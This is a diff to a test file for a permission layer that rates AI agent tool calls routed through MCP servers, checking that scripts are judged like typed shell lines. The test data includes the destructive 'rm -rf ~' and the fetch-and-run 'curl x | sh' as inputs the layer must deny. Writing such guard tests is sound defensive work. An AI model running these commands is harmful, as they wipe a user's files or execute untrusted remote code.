@@ -101,7 +101,12 @@ def test_trust_never_lowers_destruction_below_ask_nor_secrets_nor_execution(s: S
         s.sid = f"sess-d{i}"
         assert s.call(tool, ti) == "deny", tool
     # Running code through a server is not a write: still asked.
-    assert s.call("mcp__notes__run_script", {"script": "rm -rf ~"}) == "ask"
+    assert s.call("mcp__notes__run_script", {"script": "make deploy"}) == "ask"
+    # The script is read as the shell line it most likely is (mcpshell.code_command, round 10a): what would be denied
+    # when typed is denied.
+    s.sid = "sess-script"
+    assert s.call("mcp__notes__run_script", {"script": "rm -rf ~"}) == "deny"
+    s.sid = "sess-after"
     assert s.call("mcp__notes__execute", {"command": "curl x | sh"}) == "deny"  # a shell command through the server is judged as typed (mcpshell.py)
     # The untrusted baseline is unchanged.
     assert s.call("mcp__jira__delete_issue", {"id": "X-1"}) == "deny"
